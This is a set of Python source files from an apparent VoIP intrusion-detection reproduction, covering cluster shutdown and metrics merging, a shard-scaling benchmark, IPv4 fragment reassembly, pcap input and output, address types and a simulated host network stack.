        process start plus checkpoint restore plus replayed barrier
        messages deserves a fresh ack window rather than inheriting
        whatever sliver the original deadline has left.
        """
        stats = self.cluster_stats
        pending = {worker.worker_id: worker for worker in workers}
        acks: dict[int, tuple | None] = {}
        deadline = _time.monotonic() + self.config.result_timeout
        while pending:
            if _time.monotonic() > deadline:
                raise ClusterError(
                    f"timed out waiting for {kind} acks: {sorted(pending)}"
                )
            try:
                message = self._out_q.get(timeout=0.1)
            except _queue.Empty:
                message = None
            if message is not None:
                if message[0] == "spans":
                    # Span drains interleave with control acks on the one
                    # result queue; bank them for the stop()-time merge.
                    self._worker_spans.extend(message[2])
                    continue
                if (
                    message[0] == kind
                    and message[2] == epoch
                    and message[1] in pending
                ):
                    wid = message[1]
                    pending.pop(wid)
                    acks[wid] = tuple(message[3:])
                continue
            for wid, worker in list(pending.items()):
                if worker.alive:
                    continue
                if worker.restarts < self.config.max_restarts:
                    worker.respawn()
                    stats.worker_restarts += 1
                    for msg in resend:
                        self._send_control(worker, msg)
                    deadline = _time.monotonic() + self.config.result_timeout
                else:
                    self._mark_dead(worker)
                    pending.pop(wid)
                    acks[wid] = None
        return acks

    # -- shutdown -------------------------------------------------------------

    def stop(self) -> ClusterResult:
        """Graceful shutdown: flush partial batches, let every worker
        drain its queue, collect reports, merge."""
        if self._stopped:
            assert self.result is not None
            return self.result
        if not self._started:
            self.start()
        try:
            self.flush()
        except ClusterError:
            # Every shard is dead: whatever is still pending can no
            # longer be detected.  stop() must always yield the degraded
            # report (dead-worker alerts, drop accounting) — raising
            # here would hide the very forensics the caller needs.
            for wid, pending in enumerate(self._pending):
                self.cluster_stats.frames_dropped += len(pending)
                self._pending[wid] = []
        reports = (
            self._stop_serial()
            if self.config.backend == "serial"
            else self._stop_queued()
        )
        self.cluster_stats.fragments_expired = self.sharder.fragments_expired
        self._stopped = True
        self.result = self._merge(reports)
        if self._own_checkpoint_dir is not None:
            _shutil.rmtree(self._own_checkpoint_dir, ignore_errors=True)
            self._own_checkpoint_dir = None
        return self.result

    def _stop_serial(self) -> dict:
        reports = {}
        for worker in self._workers:
            worker.put(("stop",))
            reports[worker.worker_id] = (worker.report, worker.restarts)
        return reports

    def _stop_queued(self) -> dict:
        reports: dict = {}
        for worker in self._workers:
            if worker.dead:
                # Degraded mid-run: nothing will ever report for it.
                reports[worker.worker_id] = (None, worker.restarts)
            else:
                self._send_stop(worker)
        pending = {
            worker.worker_id: worker
            for worker in self._workers
            if not worker.dead
        }
        deadline = _time.monotonic() + self.config.result_timeout
        while pending:
            try:
                message = self._out_q.get(timeout=0.1)
            except _queue.Empty:
                pass
            else:
                if message[0] == "spans":
                    self._worker_spans.extend(message[2])
                elif message[0] == "result":
                    wid, payload = message[1], message[2]
                    worker = pending.pop(wid, None)
                    if worker is not None:
                        reports[wid] = (payload, worker.restarts)
                # Anything else (a late barrier ack) is stray: ignore.
                continue
            for wid, worker in list(pending.items()):
                if worker.alive:
                    continue
                # Died before reporting.  Respawn so it can drain what is
                # still queued (a fresh stop chases the queue); give up on
                # it once the restart budget is spent.
                if worker.restarts < self.config.max_restarts:
                    worker.respawn()
                    self.cluster_stats.worker_restarts += 1
                    self._send_stop(worker)
                else:
                    reports[wid] = (None, worker.restarts)
                    del pending[wid]
            if _time.monotonic() > deadline:
                raise ClusterError(
                    f"timed out waiting for worker reports: {sorted(pending)}"
                )
        for worker in self._workers:
            worker.join(timeout=1.0)
        return reports

    def _send_stop(self, worker) -> None:
        while True:
            try:
                worker.in_q.put(("stop",), timeout=0.05)
                return
            except _queue.Full:
                if not worker.alive:
                    # Dead with a full queue: the respawn path in
                    # _stop_queued will retry after the restart.
                    return

    def _merge(self, reports: dict) -> ClusterResult:
        worker_reports = []
        for wid in sorted(reports):
            payload, restarts = reports[wid]
            if payload is None:
                worker_reports.append(WorkerReport.crashed_report(wid, restarts))
            else:
                worker_reports.append(WorkerReport.from_payload(payload, restarts))
        alerts = [alert for report in worker_reports for alert in report.alerts]
        alerts.extend(self.self_alerts)
        alerts.sort(key=lambda alert: alert.time)
        stats = EngineStats.merged([report.stats for report in worker_reports])
        shadow = EngineStats.merged([report.shadow_stats for report in worker_reports])
        trace = None
        if self._tracer is not None:
            trace = self._merge_trace(worker_reports)
        registry = None
        if self.config.metrics_enabled:
            registry = MetricsRegistry()
            for report in worker_reports:
                if report.metrics is not None:
                    registry.merge_dict(report.metrics)
            self._cluster_metrics(registry)
        return ClusterResult(
            alerts=alerts,
            stats=stats,
            shadow_stats=shadow,
            cluster=self.cluster_stats,
            workers=worker_reports,
            registry=registry,
            trace=trace,
        )

    def _merge_trace(self, worker_reports: list) -> list[dict]:
        """One time-sorted timeline: banked batch-boundary drains + each
        worker's final-report remainder + the router's route spans."""
        records = list(self._worker_spans)
        for report in worker_reports:
            records.extend(report.spans)
        records.extend(_span_payload(self._tracer.drain(), "router"))
        merged = sort_timeline(records)
        dropped = self._tracer.dropped
        overflow = len(merged) - self.config.trace_max_spans
        if overflow > 0:
            # The merged timeline honours the same bound as any single
            # tracer; keep the head (earliest journeys stay complete).
            merged = merged[: self.config.trace_max_spans]
            dropped += overflow
        # Router-attributed drops (for the engine="router" counter child:
        # workers already count their own in their merged registries).
        self._router_spans_dropped = dropped
        self.cluster_stats.spans_dropped = dropped + sum(
            report.spans_dropped for report in worker_reports
        )
        self._worker_spans = []
        return merged

    def _cluster_metrics(self, registry: MetricsRegistry) -> None:
        """Router-side families, alongside the merged worker metrics."""
        stats = self.cluster_stats
        registry.counter(
            "scidive_cluster_worker_restarts_total",
            "Workers respawned after crash detection",
        ).inc(stats.worker_restarts)
        registry.counter(
            "scidive_cluster_frames_dropped_total",
            "Frames shed by the drop overflow policy",
        ).inc(stats.frames_dropped)
        routed = registry.counter(
            "scidive_cluster_frames_routed_total",
            "Frames delivered to workers",
            labelnames=("plane",),
        )
        for plane, count in stats.frames_by_plane.items():
            routed.labels(plane=plane).inc(count)
        shed = registry.counter(
            "scidive_cluster_shed_total",
            "Frames shed under queue pressure (media degrades first)",
            labelnames=("plane",),
        )
        for plane, count in stats.frames_shed.items():
            shed.labels(plane=plane).inc(count)
        registry.gauge(
            "scidive_cluster_workers", "Configured worker count"
        ).set(self.config.workers)
        registry.gauge(
            "scidive_cluster_workers_dead",
            "Shards abandoned after exhausting max_restarts",
        ).set(stats.workers_dead)
        registry.counter(
            "scidive_cluster_rulepack_reloads_total",
            "Hot rule-pack reloads coordinated by the router",
        ).inc(stats.rulepack_reloads)
        if self.overload is not None:
            registry.gauge(
                "scidive_overload_state",
                "Overload controller state "
                "(0=normal 1=brownout 2=shed 3=recovering)",
            ).set(STATE_VALUES[self.overload.state])
            transitions = registry.counter(
                "scidive_overload_transitions_total",
                "Overload controller state transitions",
                labelnames=("transition",),
            )
            for key, count in self.overload.transitions_total.items():
                transitions.labels(transition=key).inc(count)
            by_source = registry.counter(
                "scidive_shed_by_source_total",
                "Shed frames attributed to heavy-hitter sources",
                labelnames=("source",),
            )
            for ip, count in stats.shed_by_source.items():
                by_source.labels(source=ip).inc(count)
        if self._tracer is not None:
            # Same family/help as the workers' instrument counter, so a
            # merged scrape sums drops across the whole cluster; the
            # router child carries router + merge-cap drops only.
            dropped = max(self._router_spans_dropped, self._tracer.dropped)
            registry.counter(
                "scidive_spans_dropped_total",
                "Spans discarded at the tracer's max_spans bound",
                labelnames=("engine",),
            ).labels(engine="router").inc(dropped)
        from repro.obs import set_build_info

        set_build_info(
            registry,
            backend=self.config.backend,
            pack=self.rulepack.label if self.rulepack is not None else None,
        )

    # -- live observability ----------------------------------------------------

    def queue_depths(self) -> list[int]:
        """Batches waiting per worker input queue (0s for serial, which
        executes inline and never queues)."""
        depths: list[int] = []
        for worker in self._workers:
            in_q = getattr(worker, "in_q", None)
            if in_q is None:
                depths.append(0)
                continue
            try:
                depths.append(in_q.qsize())
            except NotImplementedError:  # pragma: no cover - macOS mp queues
                depths.append(-1)
        return depths

    def health(self) -> dict:
        """The /healthz payload: router counters + queue/worker liveness."""
        stats = self.cluster_stats
        payload = {
            "backend": self.config.backend,
            "workers": self.config.workers,
            "started": self._started,
            "stopped": self._stopped,
            "frames_in": stats.frames_in,
            "frames_routed": stats.frames_routed,
            "frames_replicated": stats.frames_replicated,
            "frames_dropped": stats.frames_dropped,
            "batches_submitted": stats.batches_submitted,
            "worker_restarts": stats.worker_restarts,
            "queue_depths": self.queue_depths(),
            "workers_alive": sum(1 for w in self._workers if w.alive),
            "workers_dead": stats.workers_dead,
            "worker_dead": [w.worker_id for w in self._workers if w.dead],
            "frames_shed": dict(stats.frames_shed),
            "shed_by_source": dict(stats.shed_by_source),
            "checkpointing": bool(self.config.checkpoint_every),
            "rulepack": self.rulepack.info() if self.rulepack is not None else None,
            "rulepack_reloads": stats.rulepack_reloads,
        }
        if self.overload is not None:
            payload["overload"] = self.overload_status()
        if self._tracer is not None:
            payload["tracing"] = {
                "sample_rate": self.config.trace_sample_rate,
                "sessions_seen": len(self._trace_ids),
                "sessions_sampled": sum(
                    1 for tid in self._trace_ids.values() if tid
                ),
                "spans_dropped": (
                    stats.spans_dropped if self._stopped else self._tracer.dropped
                ),
            }
        if self._last_submit_monotonic is not None:
            payload["last_frame_age_seconds"] = round(
                _time.monotonic() - self._last_submit_monotonic, 3
            )
        return payload

    def trace_spans(self, limit: int | None = None) -> list[dict]:
        """Merged span records, servable at any point in the run.

        After :meth:`stop` this is the final merged timeline; mid-run it
        is a best-effort snapshot (router route spans plus whatever the
        workers have drained at batch boundaries so far).  ``limit``
        keeps the newest records.
        """
        if self.result is not None and self.result.trace is not None:
            records = self.result.trace
        elif self._tracer is None:
            return []
        else:
            records = sort_timeline(
                list(self._worker_spans)
                + _span_payload(list(self._tracer.spans), "router")
            )
        if limit is not None and len(records) > limit:
            return records[-limit:]
        return list(records)

    def live_registry(self) -> MetricsRegistry:
        """A registry snapshot servable at any point in the run.

        Mid-run, worker registries live in other processes/threads, so
        only the router-side ``scidive_cluster_*`` families are
        available; once :meth:`stop` has merged the worker reports the
        full merged view (per-stage histograms, per-rule alert counts,
        detection delays) is returned instead.
        """
        if self.result is not None and self.result.registry is not None:
            return self.result.registry
        registry = MetricsRegistry()
        self._cluster_metrics(registry)
        return registry

    # -- offline replay --------------------------------------------------------

    def process_trace(self, trace: Trace) -> ClusterResult:
        """Replay a recorded capture through the cluster and shut down."""
        self.start()
        for record in trace:
            self.submit_frame(record.frame, record.timestamp)
        return self.stop()
