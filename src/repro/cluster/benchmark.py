"""Shard-scaling benchmark core, shared by script and CLI.

``benchmarks/bench_shard_scaling.py`` and ``repro bench-shards`` both
need the same three pieces: a mixed SIP+RTP workload whose media plane
actually spreads across shards, a sweep runner that replays it through
:class:`~repro.cluster.cluster.ScidiveCluster` at several worker counts,
and an equivalence check against the single engine.  They live here so
the CLI and the CI gate can never drift apart.

Two throughput numbers are reported per worker count:

``wall``
    End-to-end wall clock of the replay.  Honest, but on a 1-CPU
    container (or a noisy CI runner) extra process workers cannot beat
    one worker — there is nowhere to run them.

``modeled``
    Frames divided by the *critical path*: the busiest worker's CPU
    seconds (owned + shadow work) or the router's, whichever is larger.
    This is the wall clock the same sharding would achieve with one free
    core per worker, measured — not simulated — from per-worker CPU
    accounting.  Scaling gates use this number so the verdict reflects
    the sharding quality rather than the CI box's core count; both
    numbers land in the JSON.
"""

from __future__ import annotations

import collections
import gc
import time

from repro.cluster.cluster import ScidiveCluster
from repro.core.engine import ScidiveEngine
from repro.net.addr import IPv4Address, MacAddress
from repro.net.packet import build_udp_frame
from repro.rtp.packet import PT_PCMU, RtpPacket
from repro.sim.trace import Trace
from repro.voip.testbed import CLIENT_A_IP
from repro.experiments.workloads import WorkloadSpec, capture_workload

DEFAULT_WORKER_COUNTS = (1, 2, 4, 8)


def build_scaling_workload(
    sessions: int = 96,
    packets_per_session: int = 40,
    seed: int = 33,
    calls: int = 2,
) -> Trace:
    """A mixed workload whose media plane spreads across shards.

    The benign testbed capture supplies a real signalling plane (calls,
    IMs, registration churn — all broadcast-replicated by the cluster).
    The captured floods cannot supply the media plane here: they all
    target one victim endpoint, which is a single shard by design.  So
    the media plane is synthesised — ``sessions`` distinct RTP streams
    to distinct (even) ports on the protected client, interleaved on one
    timeline, exactly the many-concurrent-calls regime the ROADMAP's
    "millions of users" north star implies.
    """
    benign = capture_workload(
        WorkloadSpec(
            calls=calls,
            call_seconds=1.5,
            ims=2,
            churn_rounds=1,
            seed=seed,
        )
    )
    base = (benign.records[-1].timestamp if len(benign) else 0.0) + 2.0
    victim_ip = IPv4Address.parse(CLIENT_A_IP)
    victim_mac = MacAddress("02:00:00:00:00:0a")
    src_mac = MacAddress("02:00:00:00:00:99")
    timeline: list[tuple[float, bytes]] = []
    for i in range(sessions):
        src_ip = IPv4Address.parse(f"10.{2 + i // 200}.0.{1 + i % 200}")
        dst_port = 20000 + (i % 1000) * 40  # even → RTP session ports
        src_port = 30000 + (i % 1000) * 2
        ssrc = 0x10000 + i
        start = base + (i % 50) * 0.004
        for p in range(packets_per_session):
            packet = RtpPacket(
                payload_type=PT_PCMU,
                sequence=(100 + p) & 0xFFFF,
                timestamp=(p * 160) & 0xFFFFFFFF,
                ssrc=ssrc,
                payload=bytes(60),
            )
            frame = build_udp_frame(
                src_mac,
                victim_mac,
                src_ip,
                victim_ip,
                src_port,
                dst_port,
                packet.encode(),
                identification=(i * packets_per_session + p) & 0xFFFF,
            )
            timeline.append((start + p * 0.02, frame))
    timeline.sort(key=lambda item: item[0])
    trace = Trace(name=f"shard-scaling-{sessions}x{packets_per_session}")
    trace.records = list(benign.records)
    for timestamp, frame in timeline:
        trace.append(timestamp, frame)
    return trace


def run_single_engine(trace: Trace, vantage_ip: str = CLIENT_A_IP) -> dict:
    """The reference replay: one engine, one pass, wall + CPU timing."""
    engine = ScidiveEngine(vantage_ip=vantage_ip)
    gc.collect()
    start = time.perf_counter()
    engine.process_trace(trace)
    wall = time.perf_counter() - start
    return {
        "wall_seconds": wall,
        "cpu_seconds": engine.stats.cpu_seconds,
        "frames": engine.stats.frames,
        "footprints": engine.stats.footprints,
        "events": engine.stats.events,
        "alerts": len(engine.alerts),
        "frames_per_second": engine.stats.frames / wall if wall > 0 else 0.0,
        "_alert_multiset": collections.Counter(engine.alerts),
    }


def run_scaling_sweep(
    trace: Trace,
    worker_counts=DEFAULT_WORKER_COUNTS,
    backend: str = "process",
    batch_size: int = 64,
    vantage_ip: str = CLIENT_A_IP,
) -> dict:
    """Replay ``trace`` at each worker count; return the full report.

    Every cluster run's alert multiset is compared against the single
    engine's, so the scaling numbers are only ever reported for
    configurations that detect identically.
    """
    single = run_single_engine(trace, vantage_ip)
    expected = single.pop("_alert_multiset")
    rows = []
    for workers in worker_counts:
        cluster = ScidiveCluster(
            workers=workers,
            backend=backend,
            batch_size=batch_size,
            vantage_ip=vantage_ip,
        )
        gc.collect()
        start = time.perf_counter()
        result = cluster.process_trace(trace)
        wall = time.perf_counter() - start
        frames = result.cluster.frames_in
        rows.append(
            {
                "workers": workers,
                "wall_seconds": wall,
                "wall_frames_per_second": frames / wall if wall > 0 else 0.0,
                "critical_path_seconds": result.critical_path_seconds(),
                "modeled_frames_per_second": result.modeled_frames_per_second(),
                "router_seconds": result.cluster.router_seconds,
                "busiest_worker_seconds": max(
                    (w.busy_seconds for w in result.workers), default=0.0
                ),
                "frames_replicated": result.cluster.frames_replicated,
                "batches": result.cluster.batches_submitted,
                "alerts": len(result.alerts),
                "equivalent": result.alert_multiset() == expected,
            }
        )
    by_workers = {row["workers"]: row for row in rows}
    base = by_workers.get(1)
    for row in rows:
        if base is not None and base["modeled_frames_per_second"] > 0:
            row["scaling_modeled"] = (
                row["modeled_frames_per_second"] / base["modeled_frames_per_second"]
            )
            row["efficiency"] = row["scaling_modeled"] / row["workers"]
        else:
            row["scaling_modeled"] = 0.0
            row["efficiency"] = 0.0
    return {
        "backend": backend,
        "batch_size": batch_size,
        "workload": {
            "frames": len(trace),
            "duration_seconds": trace.duration,
            "name": trace.name,
        },
        "single_engine": single,
        "sweep": rows,
        "equivalent": all(row["equivalent"] for row in rows),
        "scaling_at_4": by_workers.get(4, {}).get("scaling_modeled", 0.0),
    }


def format_sweep(report: dict) -> str:
    """Human-readable sweep table (CLI and bench script output)."""
    lines = [
        f"workload: {report['workload']['frames']} frames, "
        f"backend={report['backend']}, batch={report['batch_size']}",
        f"single engine: {report['single_engine']['wall_seconds'] * 1e3:8.1f} ms wall, "
        f"{report['single_engine']['frames_per_second']:10,.0f} frames/s, "
        f"{report['single_engine']['alerts']} alerts",
        f"{'workers':>7s} {'wall ms':>9s} {'wall fps':>10s} {'modeled fps':>12s} "
        f"{'scaling':>8s} {'eff':>5s}  equiv",
    ]
    for row in report["sweep"]:
        lines.append(
            f"{row['workers']:7d} {row['wall_seconds'] * 1e3:9.1f} "
            f"{row['wall_frames_per_second']:10,.0f} "
            f"{row['modeled_frames_per_second']:12,.0f} "
            f"{row['scaling_modeled']:7.2f}x {row['efficiency']:5.2f}  "
            f"{'ok' if row['equivalent'] else 'MISMATCH'}"
        )
    return "\n".join(lines)
