"""IPv4 fragmentation and reassembly.

The paper's Distiller "is responsible for doing IP fragmentation,
reassembly, decoding protocols, and finally generating the corresponding
Footprints".  This module supplies both halves: :func:`fragment` splits an
oversized IPv4 packet along an MTU, and :class:`Reassembler` rebuilds
original packets from fragments arriving in any order, with a timeout so
half-delivered packets do not leak memory (and so fragment-starvation
attacks surface as an explicit expiry count).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.addr import IPv4Address
from repro.net.packet import IPv4Packet, PacketError

DEFAULT_REASSEMBLY_TIMEOUT = 30.0  # seconds, mirroring common OS defaults


def fragment(packet: IPv4Packet, mtu: int = 1500) -> list[IPv4Packet]:
    """Split ``packet`` into fragments that fit ``mtu`` (incl. 20B header).

    Returns ``[packet]`` unchanged when it already fits.  Raises
    :class:`PacketError` when the packet has DF set but does not fit, like
    a router generating ICMP "fragmentation needed" would.
    """
    if mtu < 28:  # 20B header + at least one 8-byte data unit
        raise ValueError(f"mtu too small to fragment: {mtu}")
    max_payload = mtu - 20
    if len(packet.payload) <= max_payload:
        return [packet]
    if packet.flags_df:
        raise PacketError("packet needs fragmenting but DF is set")
    # Fragment payload sizes must be multiples of 8 except the last.
    chunk = (max_payload // 8) * 8
    fragments: list[IPv4Packet] = []
    offset = 0
    payload = packet.payload
    while offset < len(payload):
        piece = payload[offset : offset + chunk]
        more = (offset + len(piece)) < len(payload)
        fragments.append(
            IPv4Packet(
                src=packet.src,
                dst=packet.dst,
                protocol=packet.protocol,
                payload=piece,
                identification=packet.identification,
                ttl=packet.ttl,
                flags_df=False,
                flags_mf=more,
                fragment_offset=(packet.fragment_offset * 8 + offset) // 8,
                tos=packet.tos,
            )
        )
        offset += len(piece)
    return fragments


@dataclass(slots=True)
class _PartialPacket:
    first_seen: float
    pieces: dict[int, bytes] = field(default_factory=dict)  # offset(bytes) -> data
    total_length: int | None = None  # set once the MF=0 fragment arrives
    template: IPv4Packet | None = None

    def add(self, frag: IPv4Packet) -> None:
        offset = frag.fragment_offset * 8
        self.pieces[offset] = frag.payload
        if not frag.flags_mf:
            self.total_length = offset + len(frag.payload)
        if self.template is None or frag.fragment_offset == 0:
            self.template = frag

    def try_assemble(self) -> bytes | None:
        if self.total_length is None:
            return None
        covered = 0
        buf = bytearray(self.total_length)
        for offset in sorted(self.pieces):
            data = self.pieces[offset]
            if offset > covered:
                return None  # hole
            end = offset + len(data)
            buf[offset:end] = data
            covered = max(covered, end)
        if covered < self.total_length:
            return None
        return bytes(buf[: self.total_length])


class Reassembler:
    """Stateful IPv4 reassembly keyed by (src, dst, protocol, id)."""

    def __init__(self, timeout: float = DEFAULT_REASSEMBLY_TIMEOUT) -> None:
        self.timeout = timeout
        self._partials: dict[tuple[IPv4Address, IPv4Address, int, int], _PartialPacket] = {}
        self.expired = 0
        self.reassembled = 0

    def push(self, packet: IPv4Packet, now: float) -> IPv4Packet | None:
        """Feed one IPv4 packet; return a whole packet when available.

        Non-fragments pass straight through.  Returns ``None`` while a
        fragmented packet is still incomplete.
        """
        self._expire(now)
        if not packet.is_fragment:
            return packet
        key = (packet.src, packet.dst, packet.protocol, packet.identification)
        partial = self._partials.get(key)
        if partial is None:
            partial = _PartialPacket(first_seen=now)
            self._partials[key] = partial
        partial.add(packet)
        payload = partial.try_assemble()
        if payload is None:
            return None
        del self._partials[key]
        self.reassembled += 1
        template = partial.template
        assert template is not None
        return IPv4Packet(
            src=template.src,
            dst=template.dst,
            protocol=template.protocol,
            payload=payload,
            identification=template.identification,
            ttl=template.ttl,
            tos=template.tos,
        )

    def _expire(self, now: float) -> None:
        stale = [k for k, p in self._partials.items() if now - p.first_seen > self.timeout]
        for key in stale:
            del self._partials[key]
            self.expired += 1

    @property
    def pending(self) -> int:
        return len(self._partials)
