"""Minimal libpcap-format reader and writer.

Traces captured in the simulator round-trip through standard pcap files
(magic ``0xA1B2C3D4``, LINKTYPE_ETHERNET), so captures can be inspected
with external tools and, conversely, recorded traces can be replayed into
the IDS offline — the same "capture once, analyse many" workflow used
with the paper's physical testbed.
"""

from __future__ import annotations

import struct
from pathlib import Path
from typing import BinaryIO

from repro.sim.trace import Trace

PCAP_MAGIC = 0xA1B2C3D4
PCAP_MAGIC_SWAPPED = 0xD4C3B2A1
LINKTYPE_ETHERNET = 1

_GLOBAL_HEADER = struct.Struct("<IHHiIII")
_RECORD_HEADER = struct.Struct("<IIII")


class PcapError(ValueError):
    """Raised on malformed pcap input."""


def split_timestamp(timestamp: float) -> tuple[int, int]:
    """The ``(seconds, microseconds)`` pair a pcap record stores."""
    seconds = int(timestamp)
    micros = int(round((timestamp - seconds) * 1_000_000))
    if micros >= 1_000_000:
        seconds += 1
        micros -= 1_000_000
    return seconds, micros


def quantize_timestamp(timestamp: float) -> float:
    """Round ``timestamp`` to what a pcap write/read round-trip yields.

    Anything derived from a timestamp before writing (ground-truth
    labels, digests) must quantize through here first, or it will
    disagree with the same computation on the read-back trace.
    """
    seconds, micros = split_timestamp(timestamp)
    return seconds + micros / 1_000_000


def write_pcap(path: str | Path, trace: Trace, snaplen: int = 65535) -> None:
    """Write ``trace`` to ``path`` in little-endian pcap format."""
    with open(path, "wb") as fh:
        _write_stream(fh, trace, snaplen)


def _write_stream(fh: BinaryIO, trace: Trace, snaplen: int) -> None:
    fh.write(_GLOBAL_HEADER.pack(PCAP_MAGIC, 2, 4, 0, 0, snaplen, LINKTYPE_ETHERNET))
    for record in trace:
        seconds, micros = split_timestamp(record.timestamp)
        data = record.frame[:snaplen]
        fh.write(_RECORD_HEADER.pack(seconds, micros, len(data), len(record.frame)))
        fh.write(data)


def read_pcap(path: str | Path, name: str | None = None) -> Trace:
    """Read a pcap file into a :class:`Trace`.

    Handles both byte orders.  Only LINKTYPE_ETHERNET captures are
    accepted since the Distiller expects Ethernet framing.
    """
    path = Path(path)
    raw = path.read_bytes()
    if len(raw) < _GLOBAL_HEADER.size:
        raise PcapError(f"file too short for pcap header: {len(raw)} bytes")
    magic = struct.unpack("<I", raw[:4])[0]
    if magic == PCAP_MAGIC:
        endian = "<"
    elif magic == PCAP_MAGIC_SWAPPED:
        endian = ">"
    else:
        raise PcapError(f"bad pcap magic: {magic:#x}")
    global_hdr = struct.Struct(endian + "IHHiIII")
    record_hdr = struct.Struct(endian + "IIII")
    _, major, minor, _tz, _sig, _snaplen, linktype = global_hdr.unpack_from(raw)
    if (major, minor) != (2, 4):
        raise PcapError(f"unsupported pcap version: {major}.{minor}")
    if linktype != LINKTYPE_ETHERNET:
        raise PcapError(f"unsupported linktype: {linktype}")
    trace = Trace(name=name or path.stem)
    offset = global_hdr.size
    while offset < len(raw):
        if offset + record_hdr.size > len(raw):
            raise PcapError("truncated pcap record header")
        seconds, micros, caplen, _origlen = record_hdr.unpack_from(raw, offset)
        offset += record_hdr.size
        if offset + caplen > len(raw):
            raise PcapError("truncated pcap record body")
        trace.append(seconds + micros / 1_000_000, raw[offset : offset + caplen])
        offset += caplen
    return trace
