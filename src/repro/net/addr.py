"""Network addresses: MAC, IPv4, and UDP endpoints.

Thin, validated value types.  We deliberately do not use
:mod:`ipaddress` for the hot paths — the Distiller parses every packet
and integer/str conversions there show up in the engine-throughput
benchmark — but the constructors accept the same dotted-quad strings.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_MAC_RE = re.compile(r"^([0-9a-fA-F]{2}:){5}[0-9a-fA-F]{2}$")


@dataclass(frozen=True, slots=True, order=True)
class MacAddress:
    """A 48-bit Ethernet address."""

    value: str

    def __post_init__(self) -> None:
        if not _MAC_RE.match(self.value):
            raise ValueError(f"invalid MAC address: {self.value!r}")
        object.__setattr__(self, "value", self.value.lower())

    @classmethod
    def from_bytes(cls, raw: bytes) -> "MacAddress":
        if len(raw) != 6:
            raise ValueError(f"MAC address needs 6 bytes, got {len(raw)}")
        return cls(":".join(f"{b:02x}" for b in raw))

    def to_bytes(self) -> bytes:
        return bytes(int(part, 16) for part in self.value.split(":"))

    def __str__(self) -> str:
        return self.value


BROADCAST_MAC = MacAddress("ff:ff:ff:ff:ff:ff")


@dataclass(frozen=True, slots=True, order=True)
class IPv4Address:
    """A 32-bit IPv4 address stored as an int for cheap comparisons."""

    packed: int

    def __post_init__(self) -> None:
        if not 0 <= self.packed <= 0xFFFFFFFF:
            raise ValueError(f"IPv4 address out of range: {self.packed}")

    @classmethod
    def parse(cls, dotted: str) -> "IPv4Address":
        parts = dotted.split(".")
        if len(parts) != 4:
            raise ValueError(f"invalid IPv4 address: {dotted!r}")
        value = 0
        for part in parts:
            if not part.isdigit():
                raise ValueError(f"invalid IPv4 address: {dotted!r}")
            octet = int(part)
            if octet > 255:
                raise ValueError(f"invalid IPv4 address: {dotted!r}")
            value = (value << 8) | octet
        return cls(value)

    @classmethod
    def from_bytes(cls, raw: bytes) -> "IPv4Address":
        if len(raw) != 4:
            raise ValueError(f"IPv4 address needs 4 bytes, got {len(raw)}")
        return cls(int.from_bytes(raw, "big"))

    def to_bytes(self) -> bytes:
        return self.packed.to_bytes(4, "big")

    def __str__(self) -> str:
        p = self.packed
        return f"{(p >> 24) & 0xFF}.{(p >> 16) & 0xFF}.{(p >> 8) & 0xFF}.{p & 0xFF}"


@dataclass(frozen=True, slots=True, order=True)
class Endpoint:
    """An (IPv4, UDP port) pair — the unit of session addressing."""

    ip: IPv4Address
    port: int

    def __post_init__(self) -> None:
        if not 0 <= self.port <= 0xFFFF:
            raise ValueError(f"UDP port out of range: {self.port}")

    @classmethod
    def parse(cls, text: str) -> "Endpoint":
        """Parse ``"10.0.0.1:5060"``."""
        host, sep, port = text.rpartition(":")
        if not sep:
            raise ValueError(f"endpoint needs host:port, got {text!r}")
        return cls(IPv4Address.parse(host), int(port))

    def __str__(self) -> str:
        return f"{self.ip}:{self.port}"


from repro.fastpickle import install_fast_pickle

# Endpoints/addresses ride inside every pickled footprint; see
# repro.fastpickle for why the default slots-dataclass hook is slow.
install_fast_pickle(MacAddress, IPv4Address, Endpoint)
