"""Host network stack: UDP sockets over the simulated wire.

:class:`HostStack` is the kernel of every simulated machine (clients,
proxy, attacker).  It owns one interface, a static ARP table (the testbed
is a single broadcast segment so dynamic ARP adds nothing but noise), an
IPv4 send path with fragmentation, a receive path with reassembly, and a
UDP port demultiplexer.

Attackers get one extra capability a normal host lacks:
:meth:`send_raw_udp` accepts arbitrary source addresses, which is how the
forged-BYE / fake-IM / hijack scenarios spoof other principals.
"""

from __future__ import annotations

import itertools
from typing import Callable

from repro.net.addr import BROADCAST_MAC, Endpoint, IPv4Address, MacAddress
from repro.net.fragmentation import Reassembler, fragment
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    PacketError,
    UdpDatagram,
)
from repro.sim.eventloop import EventLoop
from repro.sim.node import NetworkInterface, Node

UdpHandler = Callable[[bytes, Endpoint, float], None]

DEFAULT_MTU = 1500


class UdpSocket:
    """A bound UDP port.  Incoming datagrams invoke ``handler``."""

    def __init__(self, stack: "HostStack", port: int, handler: UdpHandler) -> None:
        self.stack = stack
        self.port = port
        self.handler = handler
        self.datagrams_in = 0
        self.datagrams_out = 0

    def send_to(self, dst: Endpoint, payload: bytes) -> None:
        self.datagrams_out += 1
        self.stack.send_udp(self.port, dst, payload)

    def close(self) -> None:
        self.stack.unbind(self.port)


class HostStack(Node):
    """A single-homed IPv4/UDP host."""

    def __init__(
        self,
        name: str,
        loop: EventLoop,
        ip: IPv4Address | str,
        mac: MacAddress | str,
        mtu: int = DEFAULT_MTU,
    ) -> None:
        super().__init__(name, loop)
        self.ip = ip if isinstance(ip, IPv4Address) else IPv4Address.parse(ip)
        mac_obj = mac if isinstance(mac, MacAddress) else MacAddress(mac)
        self.mac = mac_obj
        self.iface: NetworkInterface = self.add_interface(mac_obj.value)
        self.mtu = mtu
        self.arp: dict[IPv4Address, MacAddress] = {}
        self._sockets: dict[int, UdpSocket] = {}
        self._reassembler = Reassembler()
        self._ip_id = itertools.count(1)
        self._ephemeral = itertools.count(49152)
        self.decode_errors = 0

    # -- configuration -------------------------------------------------

    def add_arp_entry(self, ip: IPv4Address | str, mac: MacAddress | str) -> None:
        ip_obj = ip if isinstance(ip, IPv4Address) else IPv4Address.parse(ip)
        mac_obj = mac if isinstance(mac, MacAddress) else MacAddress(mac)
        self.arp[ip_obj] = mac_obj

    def bind(self, port: int, handler: UdpHandler) -> UdpSocket:
        if port in self._sockets:
            raise OSError(f"{self.name}: UDP port {port} already bound")
        sock = UdpSocket(self, port, handler)
        self._sockets[port] = sock
        return sock

